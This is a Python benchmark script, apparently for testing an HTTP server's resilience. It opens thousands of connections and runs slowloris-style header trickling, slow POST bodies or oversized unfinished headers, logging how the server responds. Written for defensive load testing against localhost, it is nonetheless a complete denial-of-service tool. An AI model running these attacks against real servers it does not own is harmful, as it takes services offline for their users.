#!/usr/bin/env python3
"""Hostile slow / fat HTTP clients for benches/slow_clients.sh.

Holds --conns connections open against HOST:PORT, each running one attack,
and reconnects every connection the server closes. Python 3.11 stdlib only.

  slow_clients.py --mode head-trickle|body-trickle|fat-head [options]

Attacks:
  head-trickle  `GET / HTTP/1.1`, `Host: x`, then one header byte per
                --interval (lines `X-Slow-N: y`), never the blank line that
                ends the head (slowloris).
  body-trickle  a complete `POST / HTTP/1.1` head with
                `Content-Length: --body-length`, then one body byte per
                --interval.
  fat-head      `GET / HTTP/1.1`, `Host: x` and `X-Pad-N: <--pad-bytes>`
                lines up to --fat-bytes in all, sent at once, then nothing
                (the socket stays open, the head never ends).

Every --interval the status file (or stderr) gets one line:
  <unix time> open=<n> connects=<n> closes=<n> responses=<n> errors=<n>
open: connections established and not (yet) seen closed; closes: closed by
the server (EOF or reset); responses: connections on which the server sent
bytes (e.g. a 408/494 before closing); errors: failed connects. SIGTERM or
SIGINT: abort every connection, write a last line, exit 0.
"""

import argparse
import asyncio
import itertools
import resource
import signal
import socket
import sys
import time


class Stats:
    def __init__(self):
        self.open = 0
        self.connects = 0
        self.closes = 0
        self.responses = 0
        self.errors = 0

    def line(self):
        return (f"{time.time():.1f} open={self.open} connects={self.connects} "
                f"closes={self.closes} responses={self.responses} errors={self.errors}")


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def fat_head(total, pad):
    """A never-finished head of about `total` bytes: request line, Host and
    `X-Pad-N: <pad bytes>` lines, each ending in CRLF, no blank line."""
    head = bytearray(b"GET / HTTP/1.1\r\nHost: x\r\n")
    for n in itertools.count():
        line = b"X-Pad-%d: " % n
        room = total - len(head) - len(line) - 2
        if room <= 0:
            break
        head += line + b"a" * min(pad, room) + b"\r\n"
    return bytes(head)


async def read_until_closed(reader, stats, counted, timeout=None):
    """Wait up to `timeout` (forever when None) for the server. Returns
    (closed, counted): closed once EOF or a reset is seen; any bytes
    received mark the connection as answered (counted once)."""
    try:
        data = await asyncio.wait_for(reader.read(65536), timeout)
    except asyncio.TimeoutError:
        return False, counted
    except (ConnectionError, OSError):
        return True, counted
    if not data:
        return True, counted
    if not counted:
        stats.responses += 1
    return False, True


async def one_connection(args, stats, gate, payload):
    """Connect, attack until the server closes, return."""
    async with gate:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(args.host, args.port), args.connect_timeout)
        except (OSError, asyncio.TimeoutError):
            stats.errors += 1
            await asyncio.sleep(args.retry)
            return
    sock = writer.get_extra_info("socket")
    if sock is not None:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    stats.connects += 1
    stats.open += 1
    answered = False
    by_server = True  # unless cancelled (SIGTERM) or the body ran out
    try:
        if args.mode == "fat-head":
            writer.write(payload)
            await writer.drain()
            while True:
                closed, answered = await read_until_closed(reader, stats, answered)
                if closed:
                    break
        else:
            if args.mode == "head-trickle":
                writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
                trickle = itertools.cycle(b"X-Slow-%d: y\r\n" % n for n in range(10))
                trickle = itertools.chain.from_iterable(trickle)
                left = None
            else:
                writer.write(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n"
                             b"Content-Length: %d\r\n\r\n" % args.body_length)
                trickle = itertools.repeat(ord("a"))
                left = args.body_length
            await writer.drain()
            while left is None or left > 0:
                closed, answered = await read_until_closed(reader, stats, answered, args.interval)
                if closed:
                    break
                writer.write(bytes((next(trickle),)))
                await writer.drain()
                if left is not None:
                    left -= 1
            else:
                by_server = False
    except (ConnectionError, OSError):
        pass
    except asyncio.CancelledError:
        by_server = False
        raise
    finally:
        stats.open -= 1
        if by_server:
            stats.closes += 1
        writer.transport.abort()


async def worker(args, stats, gate, payload, stop):
    while not stop.is_set():
        await one_connection(args, stats, gate, payload)


async def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--mode", required=True, choices=["head-trickle", "body-trickle", "fat-head"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, default=18083)
    p.add_argument("--conns", type=int, default=2000)
    p.add_argument("--batch", type=int, default=200,
                   help="connects in flight at once (ramp-up batch)")
    p.add_argument("--interval", type=float, default=1.0,
                   help="seconds between trickled bytes and status lines")
    p.add_argument("--body-length", type=int, default=10000)
    p.add_argument("--fat-bytes", type=int, default=126000,
                   help="fat-head: bytes of the whole head")
    p.add_argument("--pad-bytes", type=int, default=4000,
                   help="fat-head: value bytes per X-Pad line")
    p.add_argument("--connect-timeout", type=float, default=5.0)
    p.add_argument("--retry", type=float, default=0.2,
                   help="pause after a failed connect")
    p.add_argument("--status", help="append status lines here (default stderr)")
    args = p.parse_args()

    nofile = raise_nofile()
    if nofile < args.conns + 64:
        print(f"slow_clients: RLIMIT_NOFILE {nofile} < {args.conns} connections + 64",
              file=sys.stderr)
        return 1
    payload = fat_head(args.fat_bytes, args.pad_bytes) if args.mode == "fat-head" else b""
    if payload:
        lines = payload.count(b"\n") - 1
        print(f"slow_clients: fat head {len(payload)} bytes, {lines} header lines",
              file=sys.stderr)

    stats = Stats()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    gate = asyncio.Semaphore(args.batch)
    out = open(args.status, "a", buffering=1) if args.status else sys.stderr

    tasks = [asyncio.create_task(worker(args, stats, gate, payload, stop))
             for _ in range(args.conns)]
    while not stop.is_set():
        print(stats.line(), file=out)
        try:
            await asyncio.wait_for(stop.wait(), args.interval)
        except asyncio.TimeoutError:
            pass
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(stats.line() + " stopped", file=out)
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
